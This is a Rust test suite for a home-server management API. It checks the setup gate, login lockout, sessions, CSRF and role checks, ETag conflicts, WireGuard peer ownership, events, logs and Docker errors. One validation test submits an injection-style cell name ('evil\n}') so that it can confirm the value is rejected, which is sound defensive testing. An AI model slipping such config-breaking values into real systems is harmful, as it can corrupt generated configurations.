//! The API through `Router` + `oneshot`: the setup gate, sessions, CSRF, roles, ETags, errors.

use axum::body::Body;
use axum::http::{Method, Request, StatusCode, header};
use http_body_util::BodyExt;
use serde_json::{Value, json};
use tower::ServiceExt;

use super::{AppState, BODY_LIMIT, router};

#[path = "../../../builder/tests/support/minisign.rs"]
mod minisign;

const ADMIN_PASSWORD: &str = "admin-password-1";
const PEER_PASSWORD: &str = "peer-password-1";

struct Api {
    _dir: tempfile::TempDir,
    app: AppState,
}

/// What a request carries: cookies of a login, and whether to send the CSRF header.
#[derive(Clone, Default)]
struct Client {
    session: Option<String>,
    csrf: Option<String>,
    send_csrf: bool,
}

struct Reply {
    status: StatusCode,
    headers: axum::http::HeaderMap,
    body: Value,
}

impl Api {
    fn new() -> Api {
        let dir = tempfile::tempdir().unwrap();
        let state = pic_builder::State::new(dir.path().join("state"));
        state.init(None).unwrap();
        Api { _dir: dir, app: AppState::new(state, None) }
    }

    async fn call(&self, client: &Client, method: Method, uri: &str, body: Option<Value>) -> Reply {
        self.call_raw(client, method, uri, body.map(|b| b.to_string()), &[]).await
    }

    async fn call_raw(
        &self,
        client: &Client,
        method: Method,
        uri: &str,
        body: Option<String>,
        extra: &[(&str, &str)],
    ) -> Reply {
        let mut request = Request::builder().method(method).uri(uri);
        let mut cookies = Vec::new();
        if let Some(s) = &client.session {
            cookies.push(format!("pic_session={s}"));
        }
        if let Some(c) = &client.csrf {
            cookies.push(format!("csrf_token={c}"));
            if client.send_csrf {
                request = request.header("x-csrf-token", c);
            }
        }
        if !cookies.is_empty() {
            request = request.header(header::COOKIE, cookies.join("; "));
        }
        for (name, value) in extra {
            request = request.header(*name, *value);
        }
        let request = match body {
            Some(text) => request.header(header::CONTENT_TYPE, "application/json").body(Body::from(text)),
            None => request.body(Body::empty()),
        }
        .unwrap();
        let response = router(self.app.clone()).oneshot(request).await.unwrap();
        let status = response.status();
        let headers = response.headers().clone();
        let bytes = response.into_body().collect().await.unwrap().to_bytes();
        let body = if bytes.is_empty() { Value::Null } else { serde_json::from_slice(&bytes).unwrap_or(Value::Null) };
        Reply { status, headers, body }
    }

    /// GET a non-JSON body as text, insisting on 200.
    async fn call_text(&self, client: &Client, uri: &str) -> String {
        let mut request = Request::builder().uri(uri);
        if let Some(s) = &client.session {
            request = request.header(header::COOKIE, format!("pic_session={s}"));
        }
        let response = router(self.app.clone()).oneshot(request.body(Body::empty()).unwrap()).await.unwrap();
        assert_eq!(response.status(), StatusCode::OK, "{uri}");
        String::from_utf8(response.into_body().collect().await.unwrap().to_bytes().to_vec()).unwrap()
    }

    async fn setup(&self) {
        let body =
            json!({"cell_name": "home", "admin_password": ADMIN_PASSWORD, "services": ["dns", "proxy", "calendar"]});
        let reply = self.call(&Client::default(), Method::POST, "/api/setup", Some(body)).await;
        assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    }

    /// One login attempt, whatever its outcome.
    async fn try_login(&self, user: &str, password: &str) -> Reply {
        let body = json!({"username": user, "password": password});
        self.call(&Client::default(), Method::POST, "/api/auth/login", Some(body)).await
    }

    async fn login(&self, user: &str, password: &str) -> Client {
        let reply = self.try_login(user, password).await;
        assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
        let cookies: Vec<String> =
            reply.headers.get_all(header::SET_COOKIE).iter().map(|v| v.to_str().unwrap().to_string()).collect();
        let value = |name: &str| {
            cookies
                .iter()
                .find(|c| c.starts_with(&format!("{name}=")))
                .map(|c| c.split(';').next().unwrap()[name.len() + 1..].to_string())
        };
        let session_cookie = cookies.iter().find(|c| c.starts_with("pic_session=")).unwrap();
        assert!(session_cookie.contains("HttpOnly") && session_cookie.contains("SameSite=Strict"), "{session_cookie}");
        Client { session: value("pic_session"), csrf: value("csrf_token"), send_csrf: true }
    }

    /// Switches the cell to `domain` (`cell.domain` of the config), as a config change does.
    async fn set_domain(&self, domain: Value) {
        let state = self.app.state.clone();
        tokio::task::spawn_blocking(move || {
            let writer = state.writer().unwrap();
            let config = writer
                .desired_with(|c| {
                    c.cell.domain = serde_json::from_value(domain).unwrap();
                    Ok(())
                })
                .unwrap();
            writer.build_and_switch(&config, "test").unwrap();
        })
        .await
        .unwrap();
    }

    /// A user with role peer, added to the config directly.
    async fn add_peer_user(&self) {
        let state = self.app.state.clone();
        tokio::task::spawn_blocking(move || {
            let writer = state.writer().unwrap();
            let config = writer
                .desired_with(|c| {
                    c.users.push(pic_builder::config::User {
                        name: "bob".into(),
                        role: pic_builder::config::Role::Peer,
                        exit: None,
                    });
                    Ok(())
                })
                .unwrap();
            state.credentials().set_password("bob", PEER_PASSWORD).unwrap();
            let built = writer.build(Some(&config), "test").unwrap();
            writer.switch(built.generation).unwrap();
        })
        .await
        .unwrap();
    }
}

#[tokio::test]
async fn before_setup_every_api_route_points_at_the_wizard() {
    let api = Api::new();
    let anon = Client::default();
    for uri in ["/api/generations", "/api/config", "/api/auth/me", "/api/services"] {
        let reply = api.call(&anon, Method::GET, uri, None).await;
        assert_eq!(reply.status, StatusCode::PRECONDITION_REQUIRED, "{uri}");
        assert_eq!(reply.body["redirect"], "/setup");
        assert_eq!(reply.body["error"]["code"], "setup_required");
    }
    assert_eq!(api.call(&anon, Method::GET, "/health", None).await.status, StatusCode::OK);
    let status = api.call(&anon, Method::GET, "/api/setup/status", None).await.body;
    assert_eq!((&status["complete"], &status["ready"]), (&json!(false), &json!(false)), "{status}");
}

/// The wizard's questions need no session and change nothing: the time zones it offers are the
/// ones the config accepts, a password's strength comes back without any event.
#[tokio::test]
async fn the_wizard_asks_for_time_zones_and_a_passwords_strength_without_a_session() {
    let api = Api::new();
    let anon = Client::default();
    let zones = api.call(&anon, Method::GET, "/api/setup/timezones", None).await;
    assert_eq!(zones.status, StatusCode::OK);
    let zones = zones.body.as_array().unwrap().clone();
    assert!(zones.contains(&json!("Europe/Berlin")) && zones.contains(&json!("UTC")), "{} zones", zones.len());
    let mut events = api.app.events.subscribe();
    let weak = api
        .call(
            &anon,
            Method::POST,
            "/api/setup/password-strength",
            Some(json!({"password": "password1", "context": ["home"]})),
        )
        .await;
    assert_eq!(weak.status, StatusCode::OK, "{}", weak.body);
    assert_eq!((&weak.body["score"], &weak.body["verdict"]), (&json!(0), &json!("too weak")), "{}", weak.body);
    let strong = api
        .call(
            &anon,
            Method::POST,
            "/api/setup/password-strength",
            Some(json!({"password": "vivid-otter-carries-47-lanterns"})),
        )
        .await;
    assert_eq!(strong.body["verdict"], "strong", "{}", strong.body);
    let bad = api.call(&anon, Method::POST, "/api/setup/password-strength", Some(json!({"pass": "x"}))).await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(events.try_recv().is_err(), "a question is not a change");
    assert!(!api.app.state.desired_config_path().exists());
}

#[tokio::test]
async fn setup_validates_then_builds_generation_one_once() {
    let api = Api::new();
    let anon = Client::default();
    let bad = api
        .call(
            &anon,
            Method::POST,
            "/api/setup",
            Some(json!({"cell_name": "Bad Name", "admin_password": ADMIN_PASSWORD})),
        )
        .await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(bad.body["error"]["details"][0]["path"], "cell.name");
    let weak = api
        .call(&anon, Method::POST, "/api/setup", Some(json!({"cell_name": "home", "admin_password": "short"})))
        .await;
    assert_eq!(weak.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(weak.body["error"]["details"][0]["path"], "admin_password", "{}", weak.body);
    let unknown = api
        .call(
            &anon,
            Method::POST,
            "/api/setup",
            Some(json!({"cell_name": "home", "admin_password": ADMIN_PASSWORD, "colour": 1})),
        )
        .await;
    assert_eq!(unknown.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", unknown.body);
    assert!(!api.app.state.desired_config_path().exists(), "refused setups change nothing");

    api.setup().await;
    assert_eq!(api.app.state.current().unwrap(), Some(1));
    let status = api.call(&anon, Method::GET, "/api/setup/status", None).await.body;
    assert_eq!((&status["complete"], &status["ready"]), (&json!(true), &json!(true)), "{status}");
    let again = api
        .call(&anon, Method::POST, "/api/setup", Some(json!({"cell_name": "other", "admin_password": ADMIN_PASSWORD})))
        .await;
    assert_eq!(again.status, StatusCode::CONFLICT);
    // After setup, the gate asks for a session instead.
    assert_eq!(api.call(&anon, Method::GET, "/api/generations", None).await.status, StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn login_failures_lock_the_account_out() {
    let api = Api::new();
    api.setup().await;
    for _ in 0..5 {
        let reply = api.try_login("admin", "wrong-password").await;
        assert_eq!(reply.status, StatusCode::UNAUTHORIZED);
    }
    let locked = api.try_login("admin", ADMIN_PASSWORD).await;
    assert_eq!(locked.status, StatusCode::TOO_MANY_REQUESTS);
    let retry: u64 = locked.headers[header::RETRY_AFTER].to_str().unwrap().parse().unwrap();
    assert!(retry > 0 && retry <= 900);
}

#[tokio::test]
async fn login_me_logout() {
    let api = Api::new();
    api.setup().await;
    let admin = api.login("admin", ADMIN_PASSWORD).await;
    let me = api.call(&admin, Method::GET, "/api/auth/me", None).await;
    assert_eq!((me.body["user"].as_str(), me.body["role"].as_str()), (Some("admin"), Some("admin")));
    api.app.sessions.age(super::auth::SESSION_LIFETIME - std::time::Duration::from_secs(60));
    assert_eq!(api.call(&admin, Method::GET, "/api/auth/me", None).await.status, StatusCode::OK, "a minute left");
    assert_eq!(api.call(&admin, Method::POST, "/api/auth/logout", None).await.status, StatusCode::NO_CONTENT);
    let later = api.login("admin", ADMIN_PASSWORD).await;
    api.app.sessions.age(super::auth::SESSION_LIFETIME);
    assert_eq!(api.call(&later, Method::GET, "/api/auth/me", None).await.status, StatusCode::UNAUTHORIZED, "expired");
    assert_eq!(api.call(&admin, Method::GET, "/api/auth/me", None).await.status, StatusCode::UNAUTHORIZED);
}

/// Every admin route × {anonymous, peer, admin} × {with, without CSRF token}.
#[tokio::test]
async fn auth_matrix() {
    let api = Api::new();
    api.setup().await;
    api.add_peer_user().await;
    let admin = api.login("admin", ADMIN_PASSWORD).await;
    let peer = api.login("bob", PEER_PASSWORD).await;
    let routes: &[(Method, &str, bool)] = &[
        (Method::GET, "/api/config", false),
        (Method::GET, "/api/generations", false),
        (Method::GET, "/api/generations/1", false),
        (Method::GET, "/api/generations/1/diff/2", false),
        (Method::GET, "/api/services", false),
        (Method::GET, "/api/logs", false),
        // Rollback first: from generation 2 there is one to roll back to (the one admin call with
        // a CSRF token that gets through); switching to 1 then always works.
        (Method::POST, "/api/rollback", true),
        (Method::POST, "/api/generations/1/switch", true),
    ];
    for (method, uri, changes) in routes {
        for (who, client) in [("anonymous", Client::default()), ("peer", peer.clone()), ("admin", admin.clone())] {
            for send_csrf in [true, false] {
                let client = Client { send_csrf, ..client.clone() };
                let reply = api.call(&client, method.clone(), uri, None).await;
                let expected = match (who, changes, send_csrf) {
                    ("anonymous", _, _) => StatusCode::UNAUTHORIZED,
                    (_, true, false) => StatusCode::FORBIDDEN,
                    ("peer", _, _) => StatusCode::FORBIDDEN,
                    _ => StatusCode::OK,
                };
                assert_eq!(reply.status, expected, "{who} {method} {uri} csrf={send_csrf}: {}", reply.body);
            }
        }
    }
}

#[tokio::test]
async fn two_puts_with_one_etag_give_one_200_and_one_412() {
    let api = Api::new();
    api.setup().await;
    let admin = api.login("admin", ADMIN_PASSWORD).await;
    let read = api.call(&admin, Method::GET, "/api/config", None).await;
    let etag = read.headers[header::ETAG].to_str().unwrap().to_string();
    let mut first = read.body.clone();
    first["services"]["dns"]["upstreams"] = json!(["1.1.1.1"]);
    let mut second = read.body.clone();
    second["services"]["dns"]["upstreams"] = json!(["8.8.8.8"]);
    let headers = [("if-match", etag.as_str())];
    let (a, b) = tokio::join!(
        api.call_raw(&admin, Method::PUT, "/api/config", Some(first.to_string()), &headers),
        api.call_raw(&admin, Method::PUT, "/api/config", Some(second.to_string()), &headers),
    );
    let mut statuses = [a.status, b.status];
    statuses.sort();
    assert_eq!(statuses, [StatusCode::OK, StatusCode::PRECONDITION_FAILED], "{} / {}", a.body, b.body);
    assert_eq!(api.app.state.generations().unwrap().len(), 2);

    let missing = api.call_raw(&admin, Method::PUT, "/api/config", Some(read.body.to_string()), &[]).await;
    assert_eq!(missing.status, StatusCode::PRECONDITION_REQUIRED);
}

#[tokio::test]
async fn bad_input_is_a_4xx_and_changes_nothing() {
    let api = Api::new();
    api.setup().await;
    let admin = api.login("admin", ADMIN_PASSWORD).await;
    let read = api.call(&admin, Method::GET, "/api/config", None).await;
    let etag = read.headers[header::ETAG].to_str().unwrap().to_string();
    let headers = [("if-match", etag.as_str())];

    let mut invalid = read.body.clone();
    invalid["cell"]["name"] = json!("evil\n}");
    invalid["services"]["dns"]["upstreams"] = json!(["0.0.0.0"]);
    let reply = api.call_raw(&admin, Method::PUT, "/api/config", Some(invalid.to_string()), &headers).await;
    assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY);
    let paths: Vec<&str> =
        reply.body["error"]["details"].as_array().unwrap().iter().map(|d| d["path"].as_str().unwrap()).collect();
    assert_eq!(paths, ["cell.name", "services.dns.upstreams[0]"]);

    for body in ["{not json", "[]", &json!({"version": 1, "colour": "blue"}).to_string()] {
        let reply = api.call_raw(&admin, Method::PUT, "/api/config", Some(body.to_string()), &headers).await;
        assert!(reply.status.is_client_error(), "{body}: {}", reply.status);
        assert!(reply.body["error"]["code"].is_string());
    }
    let huge = "x".repeat(BODY_LIMIT + 1);
    let reply = api.call_raw(&Client::default(), Method::POST, "/api/auth/login", Some(huge), &[]).await;
    assert_eq!(reply.status, StatusCode::PAYLOAD_TOO_LARGE);
    // A whole config has a limit of its own.
    let too_big = "x".repeat(super::config::CONFIG_BODY_LIMIT + 1);
    let reply = api.call_raw(&admin, Method::PUT, "/api/config", Some(too_big), &headers).await;
    assert_eq!(reply.status, StatusCode::PAYLOAD_TOO_LARGE);
    assert_eq!(reply.body["error"]["code"], "too_large");
    let reply = api.call(&Client::default(), Method::POST, "/api/auth/login", Some(json!({"username": 1}))).await;
    assert!(reply.status.is_client_error());
    assert_eq!(api.call(&admin, Method::GET, "/api/nowhere", None).await.status, StatusCode::NOT_FOUND);
    assert_eq!(api.call(&admin, Method::DELETE, "/api/generations", None).await.status, StatusCode::METHOD_NOT_ALLOWED);
    assert_eq!(api.call(&admin, Method::GET, "/api/generations/99", None).await.status, StatusCode::NOT_FOUND);
    assert_eq!(api.app.state.generations().unwrap().len(), 1, "nothing was built");
}

#[tokio::test]
async fn change_diff_switch_and_roll_back() {
    let api = Api::new();
    api.setup().await;
    let admin = api.login("admin", ADMIN_PASSWORD).await;
    let read = api.call(&admin, Method::GET, "/api/config", None).await;
    let etag = read.headers[header::ETAG].to_str().unwrap().to_string();
    let mut changed = read.body.clone();
    changed["services"]["dns"]["records"] = json!([{"name": "nas", "type": "A", "value": "172.20.0.50"}]);
    let put = api.call_raw(&admin, Method::PUT, "/api/config", Some(changed.to_string()), &[("if-match", &etag)]).await;
    assert_eq!((put.status, put.body["generation"].as_u64()), (StatusCode::OK, Some(2)));
    assert_ne!(put.headers[header::ETAG].to_str().unwrap(), etag);

    let diff = api.call(&admin, Method::GET, "/api/generations/1/diff/2", None).await;
    let services: Vec<&str> =
        diff.body["services"].as_array().unwrap().iter().map(|s| s["service"].as_str().unwrap()).collect();
    assert_eq!(services, ["dns"]);
    let rollback = api.call(&admin, Method::POST, "/api/rollback", None).await;
    assert_eq!(rollback.body, json!({"from": 2, "to": 1}));
    let list = api.call(&admin, Method::GET, "/api/generations", None).await;
    assert_eq!(list.body[0]["current"], true);
    let switched = api.call(&admin, Method::POST, "/api/generations/2/switch", None).await;
    assert_eq!(switched.body["to"], 2);
    let services = api.call(&admin, Method::GET, "/api/services", None).await;
    assert!(services.body["services"]["dns"]["store_path"].as_str().unwrap().starts_with("store/"));
}

#[tokio::test]
async fn peers_see_only_their_own_devices() {
    let api = Api::new();
    api.setup().await;
    api.add_peer_user().await;
    let admin = api.login("admin", ADMIN_PASSWORD).await;
    let bob = api.login("bob", PEER_PASSWORD).await;

    let created = api.call(&admin, Method::POST, "/api/peers", Some(json!({"name": "bob-phone", "user": "bob"}))).await;
    assert_eq!(created.status, StatusCode::CREATED, "{}", created.body);
    assert_eq!(created.body["peer"]["address"], "10.8.0.2");
    let other =
        api.call(&admin, Method::POST, "/api/peers", Some(json!({"name": "admin-laptop", "routing": "full"}))).await;
    assert_eq!((other.status, other.body["peer"]["address"].as_str()), (StatusCode::CREATED, Some("10.8.0.3")));
    let duplicate = api.call(&admin, Method::POST, "/api/peers", Some(json!({"name": "bob-phone"}))).await;
    assert_eq!(duplicate.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(bob_cannot(&api, &bob, Method::POST, "/api/peers").await, StatusCode::FORBIDDEN);

    let mine = api.call(&bob, Method::GET, "/api/peers", None).await;
    let names: Vec<&str> = mine.body.as_array().unwrap().iter().map(|p| p["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["bob-phone"]);
    assert_eq!(api.call(&bob, Method::GET, "/api/peers/admin-laptop", None).await.status, StatusCode::NOT_FOUND);
    assert_eq!(api.call(&bob, Method::GET, "/api/peers/admin-laptop/config", None).await.status, StatusCode::NOT_FOUND);
    let patch = api.call(&bob, Method::PATCH, "/api/peers/admin-laptop", Some(json!({"enabled": false}))).await;
    assert_eq!(patch.status, StatusCode::NOT_FOUND);
    // The owner may narrow what the device reaches, never widen it: an admin's list holds.
    let admin_sets = api
        .call(
            &admin,
            Method::PATCH,
            "/api/peers/bob-phone",
            Some(json!({"access": ["dns", "calendar"], "expires": "2030-01-01T00:00:00Z"})),
        )
        .await;
    assert_eq!(admin_sets.status, StatusCode::OK, "{}", admin_sets.body);
    for (body, field) in [
        (json!({"access": null}), "access"),
        (json!({"access": ["dns", "calendar", "files"]}), "access"),
        (json!({"routing": "full"}), "routing"),
        (json!({"expires": null}), "expires"),
        (json!({"expires": "2031-01-01T00:00:00Z"}), "expires"),
    ] {
        let refused = api.call(&bob, Method::PATCH, "/api/peers/bob-phone", Some(body.clone())).await;
        assert_eq!(refused.status, StatusCode::FORBIDDEN, "{body}: {}", refused.body);
        assert_eq!(refused.body["error"]["details"][0]["path"], field, "{}", refused.body);
        assert!(refused.body["error"]["details"][0]["hint"].as_str().unwrap().contains("admin"));
    }
    let narrowed = api
        .call(
            &bob,
            Method::PATCH,
            "/api/peers/bob-phone",
            Some(json!({"access": ["calendar"], "expires": "2029-01-01T00:00:00Z", "enabled": false})),
        )
        .await;
    assert_eq!(narrowed.status, StatusCode::OK, "{}", narrowed.body);
    assert_eq!(narrowed.body["peer"]["access"], json!(["calendar"]));
    let again = api.call(&bob, Method::PATCH, "/api/peers/bob-phone", Some(json!({"enabled": true}))).await;
    assert_eq!(again.status, StatusCode::FORBIDDEN, "a device its owner turned off stays off until an admin says");
    let current = api.call(&admin, Method::GET, "/api/peers/bob-phone", None).await;
    assert_eq!(
        (&current.body["access"], &current.body["enabled"], &current.body["routing"]),
        (&json!(["calendar"]), &json!(false), &json!("split")),
        "refused changes changed nothing"
    );
    let restored = api
        .call(
            &admin,
            Method::PATCH,
            "/api/peers/bob-phone",
            Some(json!({"access": null, "expires": null, "enabled": true, "routing": "full"})),
        )
        .await;
    assert_eq!(restored.status, StatusCode::OK, "an admin may widen: {}", restored.body);
    assert_eq!(bob_cannot(&api, &bob, Method::DELETE, "/api/peers/bob-phone").await, StatusCode::FORBIDDEN);

    let config = api.call_text(&bob, "/api/peers/bob-phone/config").await;
    assert!(config.contains("PrivateKey = ") && config.contains("Address = 10.8.0.2/32"), "{config}");
    assert!(config.contains("AllowedIPs = 0.0.0.0/0, ::/0"), "{config}");
    let server_key = std::fs::read_to_string(api.app.state.secrets().dir().join("wireguard/server.pub")).unwrap();
    assert!(config.contains(&format!("PublicKey = {}", server_key.trim())));
    let qr = api.call_text(&bob, "/api/peers/bob-phone/qr.svg").await;
    assert!(qr.starts_with("<?xml") && qr.contains("<svg"), "{}", &qr[..80.min(qr.len())]);

    let deleted = api.call(&admin, Method::DELETE, "/api/peers/bob-phone", None).await;
    assert_eq!(deleted.status, StatusCode::OK);
    assert!(
        api.app
            .state
            .secrets()
            .dir()
            .join("peers")
            .read_dir()
            .unwrap()
            .all(|e| e.unwrap().file_name() != "bob-phone.key")
    );
}

async fn bob_cannot(api: &Api, bob: &Client, method: Method, uri: &str) -> StatusCode {
    api.call(bob, method, uri, Some(json!({"name": "x"}))).await.status
}

#[tokio::test]
async fn fifty_concurrent_peer_creations() {
    let api = Api::new();
    api.setup().await;
    let admin = api.login("admin", ADMIN_PASSWORD).await;
    let mut tasks = tokio::task::JoinSet::new();
    for i in 0..50 {
        let (app, admin) = (api.app.clone(), admin.clone());
        tasks.spawn(async move {
            let api = Api { _dir: tempfile::tempdir().unwrap(), app };
            api.call(&admin, Method::POST, "/api/peers", Some(json!({"name": format!("device{i}")}))).await.status
        });
    }
    while let Some(status) = tasks.join_next().await {
        assert_eq!(status.unwrap(), StatusCode::CREATED);
    }
    let peers = api.call(&admin, Method::GET, "/api/peers", None).await;
    let mut addresses: Vec<&str> =
        peers.body.as_array().unwrap().iter().map(|p| p["address"].as_str().unwrap()).collect();
    assert_eq!(addresses.len(), 50);
    addresses.sort();
    addresses.dedup();
    assert_eq!(addresses.len(), 50, "addresses must be distinct");
    // One generation per creation, each built on the one before it.
    let generations = api.app.state.generations().unwrap();
    assert_eq!(generations.len(), 51);
    for pair in generations.windows(2) {
        assert_eq!(pair[1].manifest.parent, Some(pair[0].manifest.number));
    }
    assert!(api.app.state.verify().unwrap().problems.is_empty());
}

#[tokio::test]
async fn events_report_each_change_as_it_happens() {
    let api = Api::new();
    api.setup().await;
    let admin = api.login("admin", ADMIN_PASSWORD).await;
    let request = Request::builder()
        .uri("/api/events")
        .header(header::COOKIE, format!("pic_session={}", admin.session.as_ref().unwrap()))
        .body(Body::empty())
        .unwrap();
    let response = router(api.app.clone()).oneshot(request).await.unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(response.headers()[header::CONTENT_TYPE], "text/event-stream");
    let mut body = response.into_body();

    let created = api.call(&admin, Method::POST, "/api/peers", Some(json!({"name": "laptop"}))).await;
    assert_eq!(created.status, StatusCode::CREATED);
    let mut seen = String::new();
    while !seen.contains("\"step\":\"done\"") {
        let frame =
            tokio::time::timeout(std::time::Duration::from_secs(5), body.frame()).await.expect("an event in time");
        let frame = frame.expect("the stream stays open").unwrap();
        if let Some(data) = frame.data_ref() {
            seen.push_str(&String::from_utf8_lossy(data));
        }
    }
    for step in ["requested", "switched", "done"] {
        assert!(seen.contains(&format!("\"step\":\"{step}\"")), "{step} missing from {seen}");
    }
    assert!(seen.contains("\"generation\":2") && seen.contains("POST /api/peers"), "{seen}");

    // A request that switches no generation activates nothing.
    let set =
        api.call(&admin, Method::POST, "/api/users/admin/password", Some(json!({"password": ADMIN_PASSWORD}))).await;
    assert_eq!(set.status, StatusCode::OK, "{}", set.body);
    let mut seen = String::new();
    while !seen.contains("\"step\":\"done\"") {
        let frame =
            tokio::time::timeout(std::time::Duration::from_secs(5), body.frame()).await.expect("an event in time");
        if let Some(data) = frame.expect("the stream stays open").unwrap().data_ref() {
            seen.push_str(&String::from_utf8_lossy(data));
        }
    }
    assert!(seen.contains("\"activated\":false") && !seen.contains("\"step\":\"switched\""), "{seen}");

    let anonymous = api.call(&Client::default(), Method::GET, "/api/events", None).await;
    assert_eq!(anonymous.status, StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn the_committed_openapi_document_is_the_served_one() {
    let api = Api::new();
    let served = api.call(&Client::default(), Method::GET, "/api/openapi.json", None).await;
    assert_eq!(served.status, StatusCode::OK, "the description needs no setup and no session");
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/openapi.json");
    let committed: Value =
        serde_json::from_str(&std::fs::read_to_string(path).unwrap_or_default()).unwrap_or(Value::Null);
    assert!(committed == served.body, "{path} is out of date with the handlers; run `make openapi` and commit it");
    for route in [
        "/api/setup",
        "/api/auth/login",
        "/api/config",
        "/api/generations/{a}/diff/{b}",
        "/api/peers/{name}/qr.svg",
        "/api/events",
    ] {
        assert!(served.body["paths"].get(route).is_some(), "{route} is not described");
    }
}

#[tokio::test]
async fn logs_are_searchable() {
    let api = Api::new();
    api.setup().await;
    let admin = api.login("admin", ADMIN_PASSWORD).await;
    let dir = crate::logs::dir(api.app.state.root());
    std::fs::create_dir_all(&dir).unwrap();
    let lines = [
        r#"{"timestamp":"2026-11-01T10:00:00Z","level":"INFO","fields":{"message":"started"}}"#,
        r#"{"timestamp":"2026-11-01T11:00:00Z","level":"WARN","fields":{"message":"activating WireGuard failed"}}"#,
    ];
    std::fs::write(dir.join("api.log"), lines.join("\n") + "\n").unwrap();
    let all = api.call(&admin, Method::GET, "/api/logs", None).await;
    assert_eq!(all.body.as_array().unwrap().len(), 2);
    let warn = api
        .call(&admin, Method::GET, "/api/logs?service=api&level=warn&q=WireGuard&since=2026-11-01T00:00:00Z", None)
        .await;
    assert_eq!(warn.body.as_array().unwrap().len(), 1, "{}", warn.body);
    assert_eq!(api.call(&admin, Method::GET, "/api/logs?service=ssh", None).await.status, StatusCode::BAD_REQUEST);
    assert_eq!(api.call(&admin, Method::GET, "/api/logs?level=loud", None).await.status, StatusCode::BAD_REQUEST);
    assert_eq!(api.call(&admin, Method::GET, "/api/logs?service=dns", None).await.body, json!([]));
}

/// The other routes × {anonymous, peer, admin} × {with, without CSRF token}: the setup and auth
/// routes need no token, the description and health no session, peers routes follow ownership.
#[tokio::test]
async fn auth_matrix_of_public_auth_and_peer_routes() {
    let api = Api::new();
    api.setup().await;
    api.add_peer_user().await;
    let admin = api.login("admin", ADMIN_PASSWORD).await;
    let peer = api.login("bob", PEER_PASSWORD).await;
    let created = api.call(&admin, Method::POST, "/api/peers", Some(json!({"name": "bob-phone", "user": "bob"}))).await;
    assert_eq!(created.status, StatusCode::CREATED);

    use StatusCode as S;
    // (method, uri, body, expected for anonymous, peer, admin — with a CSRF token; without one,
    // a state-changing request that needs a session gets 403 instead of success)
    let mut counter = 0;
    let routes: Vec<(Method, &str, Option<Value>, [S; 3])> = vec![
        (Method::GET, "/health", None, [S::OK, S::OK, S::OK]),
        (Method::GET, "/api/openapi.json", None, [S::OK, S::OK, S::OK]),
        (Method::GET, "/api/setup/status", None, [S::OK, S::OK, S::OK]),
        (Method::GET, "/api/setup/timezones", None, [S::OK, S::OK, S::OK]),
        (Method::GET, "/api/wireguard", None, [S::UNAUTHORIZED, S::FORBIDDEN, S::OK]),
        (
            Method::POST,
            "/api/setup",
            Some(json!({"cell_name": "x", "admin_password": ADMIN_PASSWORD})),
            [S::CONFLICT; 3],
        ),
        (Method::GET, "/api/auth/me", None, [S::UNAUTHORIZED, S::OK, S::OK]),
        (Method::GET, "/api/peers", None, [S::UNAUTHORIZED, S::OK, S::OK]),
        (Method::GET, "/api/peers/bob-phone", None, [S::UNAUTHORIZED, S::OK, S::OK]),
        (Method::GET, "/api/peers/bob-phone/config", None, [S::UNAUTHORIZED, S::OK, S::OK]),
        (Method::GET, "/api/peers/bob-phone/qr.svg", None, [S::UNAUTHORIZED, S::OK, S::OK]),
        (Method::PATCH, "/api/peers/bob-phone", Some(json!({"enabled": true})), [S::UNAUTHORIZED, S::OK, S::OK]),
        (Method::POST, "/api/peers", None, [S::UNAUTHORIZED, S::FORBIDDEN, S::CREATED]),
        (Method::DELETE, "/api/peers/bob-phone", None, [S::UNAUTHORIZED, S::FORBIDDEN, S::OK]),
    ];
    for (method, uri, body, expected) in routes {
        for (i, (who, client)) in
            [("anonymous", Client::default()), ("peer", peer.clone()), ("admin", admin.clone())].into_iter().enumerate()
        {
            // Without the token first: the admin's DELETE must be refused before the one that works.
            for send_csrf in [false, true] {
                let client = Client { send_csrf, ..client.clone() };
                let body = body.clone().or_else(|| {
                    (method == Method::POST).then(|| {
                        counter += 1;
                        json!({"name": format!("new{counter}")})
                    })
                });
                let reply = api.call(&client, method.clone(), uri, body).await;
                let needs_token =
                    !matches!(method, Method::GET) && uri.starts_with("/api/") && !uri.starts_with("/api/setup");
                let expected = if needs_token && !send_csrf && expected[i] != S::UNAUTHORIZED {
                    S::FORBIDDEN
                } else {
                    expected[i]
                };
                assert_eq!(reply.status, expected, "{who} {method} {uri} csrf={send_csrf}: {}", reply.body);
            }
        }
    }
}

/// With Docker away, the API still answers; the container routes say so and name the socket,
/// and a change still switches (its activation is reported as failed, to be retried).
#[tokio::test]
async fn docker_unreachable_is_a_clear_503_and_changes_still_work() {
    let mut api = Api::new();
    let args =
        crate::cli::DockerArgs { docker_socket: "/nonexistent/docker.sock".into(), publish: crate::cli::Publish::None };
    api.app.containers = Some(std::sync::Arc::new(super::containers::Containers::new(
        args,
        std::time::Duration::from_secs(1),
        std::time::Duration::from_secs(60),
    )));
    api.setup().await;
    let admin = api.login("admin", ADMIN_PASSWORD).await;
    for uri in ["/api/containers", "/api/images", "/api/volumes"] {
        let reply = api.call(&admin, Method::GET, uri, None).await;
        assert_eq!(reply.status, StatusCode::SERVICE_UNAVAILABLE, "{uri}");
        assert_eq!(reply.body["error"]["code"], "docker_unavailable");
        let message = reply.body["error"]["message"].as_str().unwrap();
        assert!(message.contains("/nonexistent/docker.sock"), "{message}");
    }
    let reply = api.call(&admin, Method::POST, "/api/containers/pic-dns/frobnicate", None).await;
    assert_eq!(reply.status, StatusCode::BAD_REQUEST, "bad input is refused before Docker is asked");
    let reply = api.call(&admin, Method::POST, "/api/containers/pic-dns/stop", None).await;
    assert_eq!(reply.status, StatusCode::SERVICE_UNAVAILABLE);
    let reply = api.call(&admin, Method::POST, "/api/peers", Some(json!({"name": "phone"}))).await;
